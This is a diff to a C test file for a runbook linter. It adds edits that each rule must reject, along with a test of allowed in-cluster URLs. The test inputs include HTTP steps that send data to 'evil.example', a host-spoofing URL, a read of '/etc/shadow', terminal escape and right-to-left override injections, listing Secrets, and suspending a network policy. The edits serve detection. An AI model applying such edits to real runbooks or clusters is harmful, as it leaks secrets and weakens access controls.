@@ -145,6 +145,9 @@ TEST(the_good_one_is_clean_and_its_program_is_named)
 	"sources: 2}\n"
 #define ARGV "argv: [systemctl, show, --no-pager, \"unit-${params.unit}\"]"
 
+#define AGENTS    "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}"
+#define HTTP(url) "kind: http\n  mutates: false\n  http: {url: \"" url "\", output: 1KiB}"
+
 /* also: another rule breaks with it. */
 static const struct {
 	const char *rule, *from, *to, *also;
@@ -253,6 +256,27 @@ static const struct {
 	{"RBL-026", "from: drops.rows", "from: params", NULL},
 	{"RBL-026", "label: \"${vars.label}\"", "label: \"${params['token']}\"", NULL},
 	{"RBL-026", "ns=${params.namespace}", "ns=${params.token}", NULL},
+	{"RBL-015", "risk: high", "risk: none", NULL},
+	{"RBL-018", "risk: high", "risk: high\n  retry: {attempts: 20, base: 1s}", NULL},
+	{"RBL-020", "\"team:mesh\"", "\"system:authenticated\"", NULL},
+	{"RBL-023",
+	 "k8s.patch: {ref: \"v1 ConfigMap ${params.namespace}/x\", patch: {data: {token: "
+	 "\"${params.token}\"}}}",
+	 "policy.suspend: {ref: \"cilium.io/v2 CiliumNetworkPolicy a/b\", until: 9000h}", NULL},
+	{"RBL-030", "v1 ConfigMap", "v1 Secret", NULL},
+	{"RBL-030", "v1 ConfigMap", "rbac.authorization.k8s.io/v1 ClusterRoleBinding", NULL},
+	{"RBL-030", "v1 ConfigMap ${params.namespace}/x", "${drops.rows[0]}", NULL},
+	{"RBL-030", "v1 ConfigMap ${params.namespace}/x", "v1 ${params.unit} a/b", NULL},
+	{"RBL-030", "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}",
+	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", NULL},
+	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), NULL},
+	{"RBL-031", AGENTS, HTTP("http://a.b.svc@evil.example/"), NULL},
+	{"RBL-031", AGENTS, HTTP("http://${params.unit}.svc/"), NULL},
+	{"RBL-031", AGENTS, HTTP("http://evil.example/a.svc"), NULL},
+	{"RBL-031", AGENTS, HTTP("file:///etc/shadow"), NULL},
+	{"RBL-032", "title: agents", "title: \"agents\\e[2J\"", NULL},
+	{"RBL-032", "title: agents", "title: \"agents \\u202e gniht on\"", NULL},
+	{"RBL-032", "title: agents", "title: \"agents \\u0085\"", NULL},
 };
 
 static bool expected(const char *also, const char *id)
@@ -309,7 +333,9 @@ TEST(every_rule_has_an_edit_that_breaks_it)
 	const struct check *rules = lint_rules(&n);
 
 	for (size_t i = 0; i < n; i++) {
-		bool found = strcmp(rules[i].id, "RBL-027") >= 0; /* those below have their own */
+		/* these three have tests of their own */
+		bool found = str_eq(rules[i].id, "RBL-027") || str_eq(rules[i].id, "RBL-028") ||
+			     str_eq(rules[i].id, "RBL-029");
 
 		for (size_t k = 0; k < ARRAY_SIZE(edits); k++)
 			found |= str_eq(edits[k].rule, rules[i].id);
@@ -522,6 +548,25 @@ TEST(too_many_steps_and_too_deep_ones_are_no_runbook)
 	strbuf_release(&sb);
 }
 
+TEST(a_service_of_the_cluster_may_be_asked)
+{
+	static const char *const urls[] = {HTTP("https://web.${params.namespace}.svc:8443/healthz"),
+					   HTTP("http://a.b.svc.cluster.local"),
+					   HTTP("http://localhost:9090/x?y=${drops.count}")};
+
+	for (size_t i = 0; i < ARRAY_SIZE(urls); i++) {
+		auto_free char *text = edited(AGENTS, urls[i]);
+		struct report r;
+		const struct finding *f;
+
+		lint(&r, text, NULL, 0);
+		f = first_other(&r, NULL);
+		if (f)
+			fail_msg("%s: %s", urls[i], f->message);
+		report_release(&r);
+	}
+}
+
 TEST(nested_steps_are_looked_at_too)
 {
 	auto_free char *text =
@@ -552,6 +597,7 @@ int main(void)
 		cmocka_unit_test(fixtures_must_take_every_branch_and_lead_where_they_say),
 		cmocka_unit_test(a_fixture_is_decoded_and_its_unknown_fields_are_named),
 		cmocka_unit_test(too_many_steps_and_too_deep_ones_are_no_runbook),
+		cmocka_unit_test(a_service_of_the_cluster_may_be_asked),
 		cmocka_unit_test(nested_steps_are_looked_at_too),
 	};
 
